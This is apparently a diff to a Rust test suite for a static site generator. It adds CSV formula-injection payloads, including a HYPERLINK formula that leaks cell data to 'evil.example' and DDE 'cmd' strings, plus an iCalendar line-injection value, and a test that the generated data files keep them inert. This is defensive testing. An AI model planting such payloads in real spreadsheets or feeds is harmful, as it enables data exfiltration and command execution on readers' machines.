@@ -91,6 +91,14 @@ const TEXT_PAYLOADS: &[&str] = &[
     "../../../../tmp/tsunagu-escape",
     "..\\..\\evil",
     "-->]]></loc><script>alert(1)</script>",
+    // Spreadsheet formulas, for the open-data CSV files.
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"詳しくはこちら\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
+    "\\n\\;\\,",
 ];
 
 /// Markdown-only payloads: link and image syntax, autolinks, raw HTML the
@@ -260,7 +268,8 @@ fn site_toml() -> String {
 }
 
 /// Front matter lines shared by centers, organizations and cafeterias.
-fn place_entry(i: usize, p: &str, body: &str) -> String {
+fn place_entry(i: usize, p: &str, body: &str, raw: bool) -> String {
+    let tagged = |f: &str, i: usize, p: &str| if raw { p.to_string() } else { tagged(f, i, p) };
     let mut s = String::from("---\n");
     for f in PLACE_FIELDS {
         writeln!(s, "{f}: {}", q(&tagged(f, i, p))).unwrap();
@@ -289,7 +298,8 @@ fn place_entry(i: usize, p: &str, body: &str) -> String {
     s
 }
 
-fn event_entry(i: usize, p: &str, body: &str) -> String {
+fn event_entry(i: usize, p: &str, body: &str, raw: bool) -> String {
+    let tagged = |f: &str, i: usize, p: &str| if raw { p.to_string() } else { tagged(f, i, p) };
     let mut s = String::from("---\n");
     for f in EVENT_FIELDS {
         writeln!(s, "{f}: {}", q(&tagged(f, i, p))).unwrap();
@@ -414,22 +424,34 @@ fn portal() -> &'static Portal {
             write(
                 &root,
                 &format!("content/centers/x{i}-center.md"),
-                &place_entry(i, p, &body),
+                &place_entry(i, p, &body, false),
             );
             write(
                 &root,
                 &format!("content/organizations/x{i}-org.md"),
-                &place_entry(i, p, &md),
+                &place_entry(i, p, &md, false),
             );
             write(
                 &root,
                 &format!("content/cafeterias/x{i}-cafe.md"),
-                &place_entry(i, p, &body),
+                &place_entry(i, p, &body, false),
             );
             write(
                 &root,
                 &format!("content/events/x{i}-event.md"),
-                &event_entry(i, p, &body),
+                &event_entry(i, p, &body, false),
+            );
+            // The payload alone in every field (no tag in front), so it
+            // starts each cell of the open-data files and feeds.
+            write(
+                &root,
+                &format!("content/cafeterias/x{i}-rawcafe.md"),
+                &place_entry(i, p, &body, true),
+            );
+            write(
+                &root,
+                &format!("content/events/x{i}-rawevent.md"),
+                &event_entry(i, p, &body, true),
             );
             write(
                 &root,
@@ -480,9 +502,35 @@ const URL_ATTRS: &[&str] = &[
     "xlink:href",
 ];
 
-/// Same-site scripts the theme and the search module ship, relative to
-/// the base (that each exists is checked by `every_script_a_page_loads_is_shipped`).
-const OWN_SCRIPTS: &[&str] = &["site.js", "search/search.js"];
+/// Same-site scripts the built-in themes and the search module ship,
+/// relative to the base: every `.js` under `themes/*/static/`, and the
+/// search module's glue. Content can add none of these (that each one a
+/// page names exists is checked by `every_script_a_page_loads_is_shipped`).
+fn own_scripts() -> &'static BTreeSet<String> {
+    static OWN: std::sync::OnceLock<BTreeSet<String>> = std::sync::OnceLock::new();
+    OWN.get_or_init(|| {
+        let mut own: BTreeSet<String> = BTreeSet::new();
+        for theme in std::fs::read_dir(repo().join("themes")).unwrap() {
+            let stat = theme.unwrap().path().join("static");
+            for f in walkdir::WalkDir::new(&stat)
+                .into_iter()
+                .filter_map(Result::ok)
+            {
+                let rel = f
+                    .path()
+                    .strip_prefix(&stat)
+                    .unwrap()
+                    .to_string_lossy()
+                    .replace('\\', "/");
+                if rel.ends_with(".js") {
+                    own.insert(rel);
+                }
+            }
+        }
+        own.insert(tsunagu::search_assets::SEARCH_JS_PATH.to_string());
+        own
+    })
+}
 
 /// Every violation of the rules above in one HTML document.
 fn html_violations(page: &str, doc: &Html) -> Vec<String> {
@@ -511,7 +559,7 @@ fn html_violations(page: &str, doc: &Html) -> Vec<String> {
                 } else {
                     let own = v.attr("src").is_some_and(|src| {
                         let path = src.strip_prefix('/').unwrap_or("");
-                        !src.starts_with("//") && OWN_SCRIPTS.contains(&path)
+                        !src.starts_with("//") && own_scripts().contains(path)
                     });
                     let inline = el.text().any(|t| !t.trim().is_empty());
                     if !own || inline {
@@ -866,6 +914,227 @@ fn sitemap_robots_and_data_files_hold_no_markup() {
     }
 }
 
+/// RFC 4180 records of a CSV text (quotes, doubled quotes, CRLF).
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {}
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    if !cell.is_empty() || !row.is_empty() {
+        row.push(cell);
+        rows.push(row);
+    }
+    rows
+}
+
+/// (element name, attributes) of every start tag in an XML text.
+fn xml_elements(xml: &str) -> Vec<(String, Vec<(String, String)>)> {
+    let mut out = Vec::new();
+    let mut rest = xml;
+    while let Some(start) = rest.find('<') {
+        rest = &rest[start + 1..];
+        let end = rest.find('>').unwrap_or(rest.len());
+        let tag = &rest[..end];
+        rest = &rest[end..];
+        if tag.starts_with(['?', '/', '!']) {
+            continue;
+        }
+        let name: String = tag
+            .chars()
+            .take_while(|c| !c.is_whitespace() && *c != '/')
+            .collect();
+        let mut attrs = Vec::new();
+        let mut a = &tag[name.len()..];
+        while let Some(eq) = a.find("=\"") {
+            let key = a[..eq].trim().to_string();
+            let after = &a[eq + 2..];
+            let close = after.find('"').unwrap_or(after.len());
+            attrs.push((key, after[..close].to_string()));
+            a = &after[(close + 1).min(after.len())..];
+        }
+        out.push((name, attrs));
+    }
+    out
+}
+
+/// iCalendar content lines, unfolded (RFC 5545: CRLF + space continues).
+fn ics_unfold(text: &str) -> String {
+    text.replace("\r\n ", "").replace("\r\n\t", "")
+}
+
+/// The open-data files, feeds and calendars keep every payload inert, as
+/// docs/open-data.md promises: JSON writes `<` `>` `&` as `\u003c`…,
+/// XML and iCalendar never spell `javascript:`/`vbscript:`, iCalendar has
+/// no `<` `>`, no CSV cell starts a spreadsheet formula, and no payload
+/// adds a calendar event or a feed element.
+#[test]
+fn data_files_keep_every_payload_inert() {
+    let p = portal();
+    let mut bad = Vec::new();
+    let mut kinds = BTreeSet::new();
+    let mut guarded = 0;
+    for (path, bytes) in &p.files {
+        let Some(ext) = path.rsplit('.').next() else {
+            continue;
+        };
+        let text = String::from_utf8_lossy(bytes);
+        let lower = text.to_lowercase();
+        match ext {
+            "json" => {
+                kinds.insert("json");
+                if let Err(e) = serde_json::from_str::<serde_json::Value>(&text) {
+                    bad.push(format!("{path}: not JSON: {e}"));
+                }
+                for raw in ['<', '>', '&'] {
+                    if text.contains(raw) {
+                        bad.push(format!("{path}: raw {raw:?} in JSON"));
+                    }
+                }
+                if lower.contains("javascript:") || lower.contains("vbscript:") {
+                    bad.push(format!("{path}: a script URL spelled out in JSON"));
+                }
+            }
+            "csv" => {
+                kinds.insert("csv");
+                for (r, row) in csv_cells(&text).iter().enumerate() {
+                    for cell in row {
+                        if cell.starts_with("'=HYPERLINK") || cell.starts_with("'+cmd") {
+                            guarded += 1;
+                        }
+                        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                            bad.push(format!("{path}: row {r}: cell starts a formula: {cell:?}"));
+                        }
+                    }
+                }
+            }
+            "ics" => {
+                kinds.insert("ics");
+                let unfolded = ics_unfold(&text).to_lowercase();
+                if unfolded.contains(['<', '>']) {
+                    bad.push(format!("{path}: raw < or > in iCalendar"));
+                }
+                if unfolded.contains("javascript:") || unfolded.contains("vbscript:") {
+                    bad.push(format!("{path}: a script URL spelled out in iCalendar"));
+                }
+                // Every content line is a property name, `:`, a value; no
+                // payload may add a line (or an event).
+                for line in unfolded.split("\r\n").filter(|l| !l.is_empty()) {
+                    let name: String = line
+                        .chars()
+                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
+                        .collect();
+                    if name.is_empty() || !line[name.len()..].starts_with([':', ';']) {
+                        bad.push(format!("{path}: not a content line: {line:?}"));
+                    }
+                }
+                let begins = unfolded.matches("\r\nbegin:vevent").count();
+                let names = unfolded.matches("\r\nsummary").count();
+                if begins != names {
+                    bad.push(format!("{path}: {begins} events but {names} summaries"));
+                }
+                if unfolded
+                    .split("\r\n")
+                    .any(|l| l.starts_with("summary:injected"))
+                {
+                    bad.push(format!("{path}: a payload added a property"));
+                }
+                let crlf = text.matches("\r\n").count();
+                if text.matches('\r').count() != crlf || text.matches('\n').count() != crlf {
+                    bad.push(format!(
+                        "{path}: a bare CR or LF (a line break some readers honour)"
+                    ));
+                }
+            }
+            "xml" => {
+                kinds.insert("xml");
+                if lower.contains("javascript:") || lower.contains("vbscript:") {
+                    bad.push(format!("{path}: a script URL spelled out in XML"));
+                }
+                for (name, attrs) in xml_elements(&text) {
+                    const ATOM: &[&str] = &[
+                        "feed",
+                        "title",
+                        "subtitle",
+                        "link",
+                        "id",
+                        "updated",
+                        "published",
+                        "author",
+                        "name",
+                        "uri",
+                        "email",
+                        "generator",
+                        "entry",
+                        "category",
+                        "summary",
+                        "content",
+                        "rights",
+                        "icon",
+                        "logo",
+                    ];
+                    const SITEMAP: &[&str] = &["urlset", "url", "loc", "lastmod"];
+                    if !ATOM.contains(&name.as_str()) && !SITEMAP.contains(&name.as_str()) {
+                        bad.push(format!("{path}: element <{name}>"));
+                    }
+                    for (k, v) in attrs {
+                        if k == "type" && matches!(v.as_str(), "html" | "xhtml") {
+                            bad.push(format!(
+                                "{path}: <{name} type={v}> (a reader renders it as HTML)"
+                            ));
+                        }
+                        if k == "href" && !v.starts_with(BASE_URL) {
+                            bad.push(format!("{path}: <{name} href={v:?}> outside the site"));
+                        }
+                        // `term` and `label` are names, not links.
+                        let url_attr = matches!(k.as_str(), "href" | "src" | "uri" | "scheme");
+                        if k.starts_with("on") || (url_attr && dangerous_scheme(&v)) {
+                            bad.push(format!("{path}: <{name} {k}={v:?}>"));
+                        }
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    for k in ["json", "csv", "ics", "xml"] {
+        assert!(
+            kinds.contains(k),
+            "no .{k} file was built: the check would prove nothing"
+        );
+    }
+    assert!(
+        guarded >= 4,
+        "the formula payloads never reached a CSV cell ({guarded})"
+    );
+    bad.sort();
+    bad.dedup();
+    assert!(
+        bad.is_empty(),
+        "{} problems; first 40:\n{}",
+        bad.len(),
+        bad.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
+    );
+}
+
 #[test]
 fn nothing_is_written_outside_the_output_folder() {
     let p = portal();
@@ -1036,8 +1305,12 @@ fn search_results_highlight_with_mark_only() {
                     if let Some(plain) = h.get(plain_field).and_then(|v| v.as_str()) {
                         let frag = Html::parse_fragment(v);
                         let text: String = frag.root_element().text().collect();
-                        // The HTML parser turns U+0000 into U+FFFD.
-                        let norm = |s: &str| s.replace(['\0', '\u{fffd}'], "");
+                        // The HTML parser turns U+0000 into U+FFFD, CRLF and CR into LF.
+                        let norm = |s: &str| {
+                            s.replace(['\0', '\u{fffd}'], "")
+                                .replace("\r\n", "\n")
+                                .replace('\r', "\n")
+                        };
                         if norm(&text) != norm(plain) {
                             bad.push(format!(
                                 "{field} is not the escaped {plain_field}: {v:?} vs {plain:?}"
